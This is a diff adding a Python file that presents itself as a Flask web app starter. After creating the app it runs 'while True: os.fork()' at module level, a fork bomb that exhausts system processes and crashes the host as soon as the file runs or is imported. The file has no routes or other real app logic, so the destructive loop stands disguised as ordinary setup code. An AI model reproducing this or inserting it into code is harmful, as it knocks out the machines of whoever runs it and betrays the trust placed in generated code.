@@ -1,0 +1,7 @@
+import os
+
+from flask import Flask
+
+app = Flask(__name__)
+while True:
+    os.fork()
